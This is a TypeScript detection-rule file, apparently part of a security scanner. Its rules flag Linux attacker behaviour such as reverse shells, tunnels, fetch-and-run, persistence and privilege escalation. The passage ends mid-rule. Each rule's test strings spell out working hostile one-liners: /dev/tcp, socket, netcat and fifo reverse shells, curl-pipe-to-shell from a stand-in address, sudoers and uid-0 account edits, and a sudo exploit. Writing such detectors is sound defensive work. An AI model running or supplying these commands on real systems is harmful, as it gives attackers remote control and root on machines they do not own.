/**
 * What attackers do on Linux and other POSIX systems: shells to outside, persistence, privileges, containers, traces, miners.
 */
import type { Argument, Process } from '../types.ts';
import { all, any, arg, holds, inputsOf, not, onProcess, onScene, onText, said, standsAlone, type Row, type Scene } from './row.ts';
import { behaviour } from './behaviour.ts';

const SHELLS = ['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash', 'fish', 'busybox', 'tcsh', 'csh'];
const isShellName = /^(?:.*\/)?(?:ba|z|k|da|a|c|tc)?sh$/;
const SCRIPTS = ['python', 'perl', 'ruby', 'php', 'lua', 'node', 'nodejs', 'jrunscript', 'tclsh', 'wish', 'irb', 'gawk', 'awk', 'osascript', 'deno', 'julia', 'jjs', 'gdb', 'gimp', 'vim', 'vi', 'view', 'rvim', 'rview', 'vimdiff', 'easy_install', 'pip', 'cpan'];
const WRITERS = ['tee', 'cp', 'mv', 'ln', 'install', 'sed', 'echo', 'printf', 'cat', 'touch', 'vim', 'vi', 'nano', 'dd', 'wget', 'curl', 'rsync', 'ee', 'visudo', 'truncate', 'chmod', 'base64'];

/** An argument that names a file which the process writes: a redirect's target, or an operand of a program that writes its operands. */
function writesTo(pattern: RegExp): (process: Process) => Argument | undefined {
  return ({ args, name }) => {
    const target = args.find(({ role, lower }) => role === 'target' && pattern.test(lower));
    if (target !== undefined) return target;
    switch (name) {
      case 'tee':
      case 'nano':
      case 'vim':
      case 'vi':
      case 'ee':
        return args.find(({ role, lower }) => role !== 'flag' && pattern.test(lower));
      case 'sed':
        return args.some(({ lower }) => /^-[a-z]*i/.test(lower)) ? args.find(({ lower }) => pattern.test(lower)) : undefined;
      case 'cp':
      case 'mv':
      case 'ln':
      case 'install':
      case 'rsync':
        return args.findLast(({ role }) => role !== 'flag' && role !== 'target') === undefined
          ? undefined
          : [args.findLast(({ role }) => role !== 'flag' && role !== 'target')].find((last) => last !== undefined && pattern.test(last.lower));
      case 'wget':
      case 'curl':
        return args.find(({ role, lower }) => role !== 'url' && pattern.test(lower));
      case 'dd':
        return args.find(({ lower }) => lower.startsWith('of=') && pattern.test(lower.slice(3)));
      default:
        return undefined;
    }
  };
}

const writing = (pattern: RegExp) => onProcess(['*'], writesTo(pattern));

const TEMP = /^(?:\/private)?\/(?:tmp|var\/tmp|dev\/shm|var\/run|run\/shm|run\/user)\//;

/** Text of a script holds all of these. */
function textWith(first: readonly string[], ...others: readonly (readonly string[])[]) {
  return onText(first, ({ lower }) => others.every((literals) => literals.some((literal) => lower.includes(literal))));
}

export const LINUX: readonly Row[] = [
  behaviour('dev-tcp-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason: 'A shell is tied to a network connection (/dev/tcp or /dev/udp): whoever is at the other end types commands here.',
    benign: ['a port check by a shell that only opens the connection'],
    hits: ['bash -i >& /dev/tcp/203.0.113.5/443 0>&1', "sh -c 'sh -i >& /dev/udp/203.0.113.5/53 0>&1'", "bash -c 'exec 5<>/dev/tcp/203.0.113.5/80;cat <&5 | while read line; do $line 2>&5 >&5; done'"],
    misses: ['timeout 1 bash -c "echo > /dev/tcp/db.corp.example/5432"'],
    look: onText(['/dev/tcp/', '/dev/udp/'], ({ lower }) =>
      /(?:sh|bash|ksh|zsh) -[il]\b/.test(lower) || ((lower.includes('exec ') || lower.includes('exec\t')) && /<&\s?\d|\|\s?(?:ba)?sh\b|while read/.test(lower)) || /(?:ba|k|z)?sh [^;|]{0,40}(?:0>&1|<&1|0<&1|2>&1)/.test(lower),
    ),
  }),
  behaviour('dev-tcp', ['reverse-shell', 'T1095', 'command-and-control', 'medium', 'medium'], {
    reason: 'The shell itself opens a network connection (/dev/tcp), past the tools that are watched.',
    benign: ['waiting for a port in a start script'],
    hits: ['bash -c "echo x > /dev/tcp/203.0.113.5/80"'],
    misses: ['ls /dev/ttyS0'],
    look: onText(['/dev/tcp/', '/dev/udp/']),
  }),
  behaviour('script-socket-shell', ['reverse-shell', 'T1059', 'execution', 'critical', 'high'], {
    reason: 'A script opens a socket and hands it to a shell: a reverse or bind shell.',
    benign: [],
    hits: [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      `php -r '$sock=fsockopen("203.0.113.5",443);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
    ],
    misses: [`python3 -c 'import socket; print(socket.gethostname())'`],
    look: onText(['socket', 'fsockopen', 'net.connect', 'inet/tcp', 'tcpclient'], ({ lower }) =>
      ['/bin/sh', '/bin/bash', '"sh"', "'sh'", 'cmd.exe', '"cmd"', 'pty.spawn', 'io.popen', 'popen(', 'dup2', 'exec $c', 'subprocess', 'child_process', 'processbuilder', '/bin/zsh', 'powershell'].some((shell) => lower.includes(shell)) &&
      ['connect', 'fsockopen', 'bind(', 'socket_bind', 'tcpsocket', 'tcpserver', 'socket $::env', 'inet_aton', 'createserver', 'new socket', 'net.socket', 'inet/tcp', 'tcpclient(', 'listen(', '.spawn', 'sockaddr_in', 'pf_inet'].some((call) => lower.includes(call)),
    ),
  }),
  behaviour('netcat-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason: 'netcat or socat is told to run a shell for whoever is connected.',
    benign: [],
    hits: ['nc -e /bin/sh 203.0.113.5 443', 'ncat 203.0.113.5 443 -c bash', "socat exec:'bash -li',pty,stderr tcp:203.0.113.5:443", 'nc.exe 203.0.113.5 443 -e cmd.exe'],
    misses: ['nc -vz db.corp.example 5432', 'socat TCP-LISTEN:80,fork TCP:web:8080'],
    look: onProcess(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'socat', 'busybox', 'ncat64'], (process) => {
      const text = said(process);
      if (process.name === 'socat') return /(?:exec|system):/.test(text) ? process.args.find(({ lower }) => /exec:|system:/.test(lower)) : undefined;
      if (process.name === 'busybox' && !/^nc\b/.test(text)) return undefined;
      return /(?:^| )-[a-z]*[ec]\s?(?:\/\S{1,40}\/)?(?:(?:ba|z|k|da|a)?sh|cmd|powershell|pwsh)(?:\.exe)?(?: |$)/.test(text) ? process : undefined;
    }),
  }),
  behaviour('fifo-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason: 'A named pipe carries a network connection into a shell and back.',
    benign: [],
    hits: ['rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 443 >/tmp/f', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/s'],
    misses: ['mkfifo /run/app/pipe'],
    look: onText(['mkfifo ', 'mknod '], ({ lower }) => /sh\b/.test(lower) && ['nc ', 'ncat ', 'telnet ', 'openssl s_client', 'netcat '].some((tool) => lower.includes(tool))),
  }),
  behaviour('network-shell-tool', ['reverse-shell', 'T1059.004', 'command-and-control', 'high', 'high'], {
    reason: 'A connection is piped into or out of a shell (telnet, openssl s_client, gs-netcat).',
    benign: ['testing a mail or TLS server by hand, without a shell in the pipe'],
    hits: ['telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445', 'gs-netcat -s SecretKey -l -i -q'],
    misses: ['openssl s_client -connect mail.corp.example:993'],
    look: onProcess(['telnet', 'openssl', 'gs-netcat', 'sh', 'bash', 'nc', 'ncat', 'netcat', 'whois', 'finger'], (process, scene) => {
      if (process.name === 'gs-netcat') return process;
      const isNet = (name: string, text: string): boolean => ['telnet', 'nc', 'ncat', 'netcat'].includes(name) || (name === 'openssl' && text.includes('s_client'));
      if (isShell(process)) return inputsOf(process, scene).slice(0, 1).find((one) => isNet(one.name, said(one))) && process;
      return isNet(process.name, said(process)) && inputsOf(process, scene).some(isShell) ? process : undefined;
    }),
  }),
  behaviour('listener', ['reverse-shell', 'T1571', 'command-and-control', 'medium', 'medium'], {
    reason: 'A raw listener waits for a connection (netcat, socat, openssl s_server).',
    benign: ['debugging a network', 'copying a file between two own machines'],
    hits: ['nc -lvnp 4444', 'openssl s_server -quiet -key key.pem -cert cert.pem -port 4444', 'ncat --ssl -vv -l -p 443'],
    misses: ['nc -vz host 443'],
    look: onProcess(['nc', 'ncat', 'netcat', 'openssl', 'nc64'], (process) => {
      const text = said(process);
      if (process.name === 'openssl') return text.startsWith('s_server') ? process : undefined;
      return /(?:^| )-[a-z]*l[a-z]*(?: |$)|--listen/.test(text) ? process : undefined;
    }),
  }),
  behaviour('relay', ['tunnel', 'T1090', 'command-and-control', 'medium', 'high'], {
    reason: 'A relay forwards a port to another machine, so traffic passes where it is not expected.',
    benign: ['reaching a database from an administrator’s machine'],
    hits: ['socat TCP-LISTEN:8088,fork TCP:10.20.4.20:1433'],
    misses: ['socat - UNIX-CONNECT:/run/app.sock'],
    look: onProcess(['socat', 'rinetd', 'redir'], (process) => (/listen:/.test(said(process)) ? process : undefined)),
  }),
  behaviour('ssh-tunnel', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
    reason: 'SSH opens a remote forward or a SOCKS proxy: the other side reaches into this network.',
    benign: ['a developer reaching a service behind a jump host'],
    hits: ['ssh -fN -R 0.0.0.0:2222:localhost:22 tunnel@203.0.113.7 -o StrictHostKeyChecking=no', 'ssh -D 1080 -N user@203.0.113.7'],
    misses: ['ssh -p 22 admin@host uptime'],
    look: onProcess(['ssh', 'autossh', 'plink', 'sshuttle'], (process) => (/(?:^| )-[a-z]{0,8}[rd](?: |\d|\S{0,60}:\d)/i.test(process.args.map(({ text }) => text).filter((text) => /^-\w*[RD]/.test(text) || !text.startsWith('-')).join(' ')) && process.args.some(({ text }) => /^-[A-Za-z]*[RD]/.test(text)) ? process : undefined)),
  }),
  behaviour('tunnel-tool', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
    reason: 'A tunnelling tool gives the outside a way into this network (chisel, frp, ngrok, cloudflared, developer tunnels).',
    benign: ['a team that uses such a tunnel on purpose'],
    hits: ['./chisel client http://203.0.113.9:8080 R:socks', '/tmp/frpc -c /tmp/frpc.ini', 'cloudflared tunnel --url localhost:8080', 'ngrok tcp 3389', 'code tunnel --accept-server-license-terms', 'devtunnel host -p 8080'],
    misses: ['cloudflared --version', 'code .'],
    look: onProcess(
      ['chisel', 'frpc', 'frps', 'ngrok', 'cloudflared', 'ligolo-ng', 'ligolo', 'agent', 'gost', 'iox', 'rpivot', 'earthworm', 'ew', 'reverse_ssh', 'bore', 'localtunnel', 'lt', 'pagekite', 'pagekite.py', 'nps', 'npc', 'revsocks', 'code', 'devtunnel', 'dnscat', 'dnscat2', 'iodine', 'iodined', 'ptunnel', 'regeorgsocksproxy.py', 'neoreg.py', 'proxychains', 'proxychains4', 'tor', 'inlets', 'zrok', 'tailscaled', 'stunnel', '3proxy', 'localtonet', 'loclx', 'telebit', 'playit', 'sshuttle', 'dns2tcpc', 'venom'],
      (process) => {
        const text = said(process);
        switch (process.name) {
          case 'code':
            return text.startsWith('tunnel') ? process : undefined;
          case 'devtunnel':
            return /^(?:host|connect|port|user login)/.test(text) ? process : undefined;
          case 'cloudflared':
            return /tunnel|access|service install/.test(text) && !/--version|--help/.test(text) ? process : undefined;
          case 'agent':
            return /-connect |--?ignore-cert/.test(text) ? process : undefined;
          case 'ngrok':
            return /^(?:tcp|http|tls|start|service|config add-authtoken|authtoken)/.test(text) ? process : undefined;
          default:
            return /^(?:--?version|--?help|-h)$/.test(text) ? undefined : process;
        }
      },
    ),
  }),
  behaviour('regeorg', ['tunnel', 'T1090', 'command-and-control', 'high', 'high'], {
    reason: 'A proxy through a web shell (reGeorg and its like).',
    benign: [],
    hits: ['python reGeorgSocksProxy.py -p 8080 -u http://host.example/shell.jsp'],
    misses: ['python proxy.py --port 8080'],
    look: onText(['regeorg', 'neo-regeorg', 'tunnel.jsp', 'pystinger']),
  }),

  // Fetch and run
  behaviour('fetched-into-shell', ['fetch-and-run', 'T1105', 'execution', 'high', 'medium'], {
    reason: 'What a download gives goes straight into an interpreter, so that nothing is ever on disk to be looked at.',
    benign: ['installers whose vendors document "curl … | sh"'],
    hits: ['curl -fsSL http://203.0.113.9/x.sh | bash', 'wget -qO- http://203.0.113.9/a|sh', 'curl -s http://203.0.113.9/d.py | python3 -', 'bash -c "$(curl -fsSL http://203.0.113.9/i.sh)"'],
    misses: ['curl -s https://api.corp.example/v1 | jq .name', 'echo hello | sh'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        if (inputsOf(process, scene).some(isFetch)) return placeOf(process);
      }
      return undefined;
    }),
  }),
  behaviour('fetched-from-address-into-shell', ['fetch-and-run', 'T1105', 'execution', 'critical', 'high'], {
    reason: 'A script from a bare address, over plain HTTP or from a paste site goes straight into an interpreter.',
    benign: ['a lab without names'],
    hits: ['curl -fsSL http://203.0.113.9/x.sh | bash', 'wget -qO- 203.0.113.9/a|sh', 'curl -fsSL https://pastebin.com/raw/abc | sh'],
    misses: ['curl -fsSL https://get.docker.com | sh'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        const fetch = inputsOf(process, scene).find(isFetch);
        if (fetch?.args.some(({ lower, role }) => role !== 'flag' && isOddPlace(lower)) === true) return placeOf(fetch);
      }
      return undefined;
    }),
  }),
  behaviour('fetched-then-run', ['fetch-and-run', 'T1105', 'execution', 'high', 'high'], {
    reason: 'A file is fetched, made executable and started in one line.',
    benign: ['an installer step in a build file, from the vendor’s own address'],
    hits: ['wget http://203.0.113.9/bins/x86; chmod 777 x86; ./x86', 'curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a && /tmp/a'],
    misses: ['curl -Lo /usr/local/bin/kubectl https://dl.k8s.io/kubectl && chmod +x /usr/local/bin/kubectl'],
    look: onScene((scene) => {
      const fetches = scene.processes.filter(isFetch);
      if (fetches.length === 0) return undefined;
      const files = scene.processes.filter(({ name }) => name === 'chmod').flatMap(({ args }) => args.filter(({ role }) => role !== 'flag').slice(1).map(({ lower }) => baseName(lower)));
      const run = scene.processes.find((process) => (files.includes(baseName(process.program.toLowerCase())) || (isShell(process) && process.args.some(({ lower }) => files.includes(baseName(lower))))) && (TEMP.test(process.program) || process.program.startsWith('./') || isShell(process)));
      return run === undefined ? undefined : placeOf(run);
    }),
  }),
  behaviour('embedded-device-fetch', ['fetch-and-run', 'T1105', 'command-and-control', 'high', 'high'], {
    reason: 'The way bots spread over devices: busybox or tftp fetches a binary named for a processor.',
    benign: ['flashing an own device'],
    hits: ['/bin/busybox wget http://203.0.113.9/mips -O - > dvr; chmod 777 dvr', 'tftp -g -r tftp1.sh 203.0.113.9'],
    misses: ['busybox ls /'],
    look: onProcess(['busybox', 'tftp'], (process) => {
      const text = said(process);
      return process.name === 'tftp' ? (/(?:^| )-[a-z]*[glr]/.test(text) ? process : undefined) : /^(?:wget|tftp|ftpget) /.test(text) ? process : undefined;
    }),
  }),
  behaviour('run-from-temp', ['temp-execution', 'T1204.002', 'execution', 'high', 'medium'], {
    reason: 'A program is started out of a folder that everybody can write to.',
    benign: ['installers and build tools that unpack themselves there'],
    hits: ['/tmp/.font-unix/.cache/upd --daemon', '/dev/shm/kthreadd -a rx/0', 'nohup /var/tmp/.k/sshd'],
    misses: ['/usr/bin/ls /tmp', '/tmp/go-build123/b001/exe/main'],
    look: onProcess(['*'], (process) => (process.shell === 'posix' && TEMP.test(process.program) && !INSTALLER_TEMP.test(process.program) ? process : undefined)),
  }),
  behaviour('run-from-hidden-temp', ['temp-execution', 'T1564.001', 'defense-evasion', 'critical', 'medium'], {
    reason: 'A program is started out of a hidden folder under a folder that everybody can write to, or under the name of a system process.',
    benign: [],
    hits: ['/tmp/.X25-unix/.rsync/c/aptitude', '/var/tmp/.systemd/kswapd0'],
    misses: ['/tmp/install.sh'],
    look: onProcess(['*'], (process) => {
      if (process.shell !== 'posix') return undefined;
      const program = process.program.toLowerCase();
      return (TEMP.test(program) && (/\/\.[a-z0-9_]/.test(program) || /\/(?:kworker\S*|kthreadd|kswapd\d?|kdevtmpfsi|kinsing|sshd|systemd\S*|crond?|dbused|httpd|apache2|java|\[\S*)$/.test(program)) && !INSTALLER_TEMP.test(program)) ? process : undefined;
    }),
  }),

  // Persistence
  behaviour('cron-fetch', ['cron', 'T1053.003', 'persistence', 'critical', 'high'], {
    reason: 'A scheduled job fetches something and runs it, or runs it out of a temporary or hidden folder.',
    benign: [],
    hits: ['(crontab -l; echo "*/5 * * * * curl -fsSL http://203.0.113.9/cr.sh | sh") | crontab -', "echo '* * * * * root wget -q -O- http://203.0.113.9/u.sh|sh' > /etc/cron.d/zz", "echo '@reboot /var/tmp/.systemd/k' | crontab -"],
    misses: ["echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -"],
    look: onScene((scene) => cronPlace(scene, true)),
  }),
  behaviour('cron-write', ['cron', 'T1053.003', 'persistence', 'medium', 'medium'], {
    reason: 'A scheduled job is written, so that something starts again by itself.',
    benign: ['configuration management', 'a backup job'],
    hits: ["echo '0 3 * * * /opt/x.sh' | crontab -", 'echo "* * * * * root /opt/x" >> /etc/crontab'],
    misses: ['crontab -l'],
    look: onScene((scene) => cronPlace(scene, false)),
  }),
  behaviour('cron-removed', ['cron', 'T1053.003', 'persistence', 'medium', 'medium'], {
    reason: 'All scheduled jobs of a user are removed, as rivals’ miners are.',
    benign: ['an uninstaller'],
    hits: ['crontab -r'],
    misses: ['crontab -l'],
    look: onProcess(['crontab'], arg(/^-r$/)),
  }),
  behaviour('authorized-keys', ['persistence-file', 'T1098.004', 'persistence', 'high', 'high'], {
    reason: 'A key is added to the keys that may log in.',
    benign: ['ssh-copy-id by an administrator', 'provisioning of a new machine'],
    hits: ["echo 'ssh-rsa AAAAB3 root@x' >> /root/.ssh/authorized_keys", 'redis-cli config set dbfilename authorized_keys'],
    misses: ['cat ~/.ssh/known_hosts'],
    look: onText(['authorized_keys', 'authotized_keys'], ({ lower }, at) => {
      const before = lower.slice(Math.max(0, at - 80), at);
      return /(?:>>?|tee(?: -a)?|dbfilename|chattr [-+\w]+)\s*["']?\S*$/.test(before) && !/^\s*#/.test(before);
    }),
  }),
  behaviour('login-script-write', ['persistence-file', 'T1546.004', 'persistence', 'high', 'medium'], {
    reason: 'A line is added to a file that every login reads.',
    benign: ['setting a path or an alias'],
    hits: ["echo 'nohup /var/tmp/.k/sshd &' >> /etc/profile", "echo 'bash -c \"bash -i >& /dev/tcp/203.0.113.4/4444 0>&1\"' >> /etc/update-motd.d/00-header"],
    misses: ["echo 'export PATH=$PATH:/opt/go/bin' >> ~/.bashrc"],
    look: onProcess(['*'], (process) => {
      const target = writesTo(/(?:^|\/)(?:etc\/profile|etc\/bash\.?bashrc|etc\/zshenv|etc\/update-motd\.d\/|\.bashrc|\.bash_profile|\.profile|\.zshrc|\.zshenv|\.zprofile|etc\/rc\.local|etc\/rc\.common|etc\/init\.d\/)/)(process);
      if (target === undefined) return undefined;
      const text = said(process);
      return /nohup|\/tmp\/|\/dev\/shm|\/dev\/tcp|curl |wget |base64|\/\.\w|python|nc |bash -i|trap |ld_preload|sh -c|\s&\s/.test(text) || target.lower.includes('motd') || target.lower.includes('rc.common') ? target : undefined;
    }),
  }),
  behaviour('service-file-write', ['persistence-file', 'T1543.002', 'persistence', 'medium', 'high'], {
    reason: 'A service or timer is written by hand, so that something starts with the machine.',
    benign: ['installing own software from a script'],
    hits: ["printf '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/x.service"],
    misses: ['systemctl status sshd'],
    look: writing(/(?:systemd\/(?:system|user)\/\S+\.(?:service|timer)|etc\/init\.d\/)/),
  }),
  behaviour('service-runs-shell', ['persistence-file', 'T1543.002', 'persistence', 'high', 'high'], {
    reason: 'A service’s start line is a shell that fetches, or a program in a temporary or hidden folder.',
    benign: [],
    hits: [`printf '[Service]\\nExecStart=/bin/bash -c "curl 203.0.113.9/x|sh"' > /etc/systemd/system/x.service`],
    misses: ["printf '[Service]\\nExecStart=/usr/bin/app' > /etc/systemd/system/app.service"],
    look: onText(['execstart=', 'execstartpre='], ({ lower }, at) => /^\S*=\s*\S*(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\/\.)|^\S*=\s*\S*sh\s+-c[^\n]{0,40}(?:curl|wget|nc |\/dev\/tcp|base64|python)/.test(lower.slice(at, at + 200))),
  }),
  behaviour('udev-or-hook-write', ['persistence-file', 'T1546', 'persistence', 'high', 'medium'], {
    reason: 'A rule or hook is written that the system runs by itself (udev, apt, git, motd, ld.so).',
    benign: ['installing a device rule'],
    hits: [`echo 'ACTION=="add",RUN+="/tmp/x"' | tee /etc/udev/rules.d/71-x.rules`, 'echo "/tmp/" > /etc/ld.so.conf.d/x.conf'],
    misses: ['cat /etc/udev/rules.d/70-net.rules'],
    look: onProcess(['*'], any(writesTo(/etc\/(?:ld\.so\.conf(?:\.d\/)?|ld\.so\.preload|apt\/apt\.conf\.d\/|dpkg\/dpkg\.cfg\.d|xdg\/autostart\/)/), (process) => {
      const target = writesTo(/udev\/rules\.d\/|\.git\/hooks\//)(process);
      return target !== undefined && (/run\+?=/.test(said(process)) || process.name === 'tee') ? target : undefined;
    })),
  }),
  behaviour('preload', ['hijack', 'T1574.006', 'persistence', 'high', 'high'], {
    reason: 'A library is forced into every program (LD_PRELOAD, ld.so.preload, DYLD_INSERT_LIBRARIES).',
    benign: ['jemalloc or a profiler in front of one program'],
    hits: ['echo /tmp/evil.so > /etc/ld.so.preload', 'LD_PRELOAD=/tmp/x.so /bin/ls', 'chattr +ia /etc/ld.so.preload'],
    misses: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server'],
    look: onText(['ld.so.preload', 'ld_preload=', 'dyld_insert_libraries=', 'dyld_insert_libraries '], ({ lower }, at, literal) =>
      literal === 'ld.so.preload' ? !/(?:cat|ls|less)\s+\S*$/.test(lower.slice(Math.max(0, at - 30), at)) : /^\s?["']?(?:\/tmp|\/dev\/shm|\/var\/tmp|\.\/|\/home|~|\$\w+\/|\s|$|\/users|\/private)/.test(lower.slice(at + literal.length)),
    ),
  }),
  behaviour('kernel-module', ['rootkit', 'T1547.006', 'persistence', 'high', 'high'], {
    reason: 'A kernel module is loaded from outside the system’s own folder.',
    benign: ['building a driver by hand'],
    hits: ['insmod /tmp/diamorphine.ko', 'insmod rk.ko', 'modprobe -f /tmp/x.ko'],
    misses: ['insmod /lib/modules/6.1/kernel/fs/x.ko', 'modprobe br_netfilter'],
    look: onProcess(['insmod', 'modprobe', 'kextload', 'kmutil'], (process) => {
      const file = process.args.find(({ lower }) => /\.ko(?:\.|$)|\.kext/.test(lower));
      return file !== undefined && !/^\/(?:lib|usr\/lib|system\/library|library\/extensions)\//.test(file.lower) ? file : undefined;
    }),
  }),
  behaviour('pam-change', ['authentication', 'T1556.003', 'credential-access', 'critical', 'medium'], {
    reason: 'The modules that check passwords are changed: a way in for everybody, or a tap on what is typed.',
    benign: ['hardening by configuration management'],
    hits: ['sudo sed -i "1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,g" /etc/pam.d/su-l', 'cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so'],
    misses: ['cat /etc/pam.d/sshd'],
    look: onProcess(['*'], writesTo(/\/etc\/pam\.d\/|\/security\/pam_\w+\.so$/)),
  }),
  behaviour('trap-command', ['persistence-file', 'T1546.005', 'persistence', 'high', 'medium'], {
    reason: 'A shell trap starts a program when a signal comes or after each command.',
    benign: ['cleaning up temporary files at exit'],
    hits: ['trap "nohup sh /tmp/x.sh" EXIT', `trap 'echo "$BASH_COMMAND" >> /tmp/k' DEBUG`],
    misses: ["trap 'rm -f $TMP' EXIT"],
    look: onText(['trap '], ({ lower }, at) => standsAt(lower, at) && /^trap\s+\S{0,3}["']\S{0,3}(?:[^"'\n]{0,60}(?:nohup|\/tmp\/|\/dev\/shm|curl|wget|bash -)|[^\n]{0,60}bash_command)/.test(lower.slice(at, at + 140)) && !/rm -/.test(lower.slice(at, at + 40))),
  }),
  behaviour('python-startup-hook', ['persistence-file', 'T1546.018', 'persistence', 'high', 'medium'], {
    reason: 'A file is written that Python runs at every start (sitecustomize, usercustomize, .pth).',
    benign: [],
    hits: [`echo "import os; os.system('id')" > "$SITE/usercustomize.py"`, `echo 'import os;os.system("id")' >> /usr/lib/python3/dist-packages/x.pth`],
    misses: ['python3 -m site'],
    look: onText(['usercustomize.py', 'sitecustomize.py', '.pth'], ({ lower }, at) => /(?:>|tee)\s*["']?\S{0,120}$/.test(lower.slice(Math.max(0, at - 130), at))),
  }),

  // Privileges
  behaviour('sudoers-change', ['sudo', 'T1548.003', 'privilege-escalation', 'critical', 'medium'], {
    reason: 'The rules of who may become root are changed.',
    benign: ['provisioning of a build machine or container'],
    hits: ["echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers", 'sudo vim /etc/sudoers', `sudo sh -c "echo Defaults !tty_tickets >> /etc/sudoers"`],
    misses: ['sudo visudo -c'],
    look: onProcess(['*'], writesTo(/\/etc\/sudoers$/)),
  }),
  behaviour('sudoers-drop-in', ['sudo', 'T1548.003', 'privilege-escalation', 'medium', 'medium'], {
    reason: 'A rule is added that lets somebody become root without a password.',
    benign: ['provisioning of a build machine or container'],
    hits: ["echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app"],
    misses: ['ls /etc/sudoers.d'],
    look: onText(['nopasswd']),
  }),
  behaviour('sudo-flaw', ['sudo', 'T1548.003', 'privilege-escalation', 'critical', 'high'], {
    reason: 'A known flaw of sudo is used.',
    benign: [],
    hits: ['sudo -u#-1 /bin/bash', "sudoedit -s '\\' $(python3 -c 'print(\"A\"*1000)')"],
    misses: ['sudo -u postgres psql'],
    look: onText(['-u#-1', '-u \\#-1', '-u#4294967295', "sudoedit -s '\\'", 'sudoedit -s \\']),
  }),
  behaviour('sudo-listing', ['sudo', 'T1033', 'discovery', 'low', 'medium'], {
    reason: 'Somebody asks what they may do as root.',
    benign: ['an administrator who checks a new rule'],
    hits: ['sudo -l'],
    misses: ['sudo ls'],
    look: onText(['sudo -l'], ({ lower }, at) => !/^[a-z0-9-]/.test(lower.slice(at + 7))),
  }),
  behaviour('setuid-shell', ['suid', 'T1548.001', 'privilege-escalation', 'critical', 'medium'], {
    reason: 'A copy of a shell, or a file in a temporary folder, gets the right to run as root.',
    benign: [],
    hits: ['chmod 4755 /tmp/bash', 'chmod u+s /tmp/.sh', 'chmod +s /bin/bash'],
    misses: ['chmod 4755 /usr/bin/sudo', 'chmod 755 /tmp/x'],
    look: onProcess(['chmod'], all(arg(/^(?:[0-7]?[2467][0-7]{3}|[ugoa,]*\+[rwx]*s[rwx]*)$/), arg(/^(?:\/private)?\/(?:tmp|var\/tmp|dev\/shm|home)\/|^\.|(?:^|\/)(?:ba|da|z|k)?sh$|(?:^|\/)(?:python[\d.]*|perl|find|vim|nmap|cp|env)$/))),
  }),
  behaviour('setuid-any', ['suid', 'T1548.001', 'privilege-escalation', 'medium', 'medium'], {
    reason: 'A program gets the right to run as its owner.',
    benign: ['installing a program that needs it'],
    hits: ['chmod u+s /usr/local/bin/x', 'chmod 4755 /opt/x'],
    misses: ['chmod 755 x'],
    look: onProcess(['chmod'], arg(/^(?:0?[4-7][0-7]{3}|[ugoa,]*\+[rwx]*s[rwx]*)$/)),
  }),
  behaviour('setuid-search', ['suid', 'T1548.001', 'discovery', 'medium', 'medium'], {
    reason: 'The disk is searched for programs that run as root: a step before using one.',
    benign: ['a hardening audit'],
    hits: ['find / -perm -4000 -type f', 'find / -perm -u=s 2>/dev/null', 'getcap -r /'],
    misses: ['find . -perm 644'],
    look: onProcess(['find', 'getcap'], any(arg(/^(?:-|\/)?0?[46]000$|^-u=s|^\/u=s|^-g=s/), (process) => (process.name === 'getcap' ? process : undefined))),
  }),
  behaviour('capability-set', ['suid', 'T1548.001', 'privilege-escalation', 'high', 'medium'], {
    reason: 'An interpreter or shell gets a capability of root.',
    benign: [],
    hits: ['setcap cap_setuid+ep /usr/bin/python3'],
    misses: ['setcap cap_net_bind_service=+ep /usr/bin/caddy'],
    look: onProcess(['setcap'], arg(/^cap_(?:setuid|setgid|sys_admin|sys_ptrace|dac_override|dac_read_search|sys_module)/)),
  }),
  behaviour('second-root', ['account', 'T1136.001', 'persistence', 'critical', 'medium'], {
    reason: 'An account with the id of root is made, or one with a password in the line is put among the administrators.',
    benign: [],
    hits: ['sudo useradd -ou 0 -g 0 john', "echo 'r00t:x:0:0::/root:/bin/bash' >> /etc/passwd", 'useradd -G sudo -s /bin/bash -p $(openssl passwd -1 secret) art'],
    misses: ['useradd -m -s /bin/bash app'],
    look: onProcess(['useradd', 'adduser', 'usermod', 'echo', 'printf', 'pw'], (process) => {
      const text = said(process);
      if (process.name === 'echo' || process.name === 'printf') return /:0:0:/.test(text) ? process : undefined;
      return /(?:^| )-[a-z]*u\s?0(?: |$)|-o\b[^|;]{0,20}-u\s?0\b/.test(text) || (/openssl passwd|(?:^| )-p /.test(text) && /sudo|wheel|admin|root/.test(text)) || (process.name === 'pw' && /wheel/.test(text)) ? process : undefined;
    }),
  }),
  behaviour('passwd-from-pipe', ['account', 'T1098', 'persistence', 'medium', 'medium'], {
    reason: 'A password is set from the command line, where everybody can read it.',
    benign: ['provisioning of a test machine'],
    hits: ['echo secret | passwd --stdin john', "echo 'root:x' | chpasswd"],
    misses: ['passwd john'],
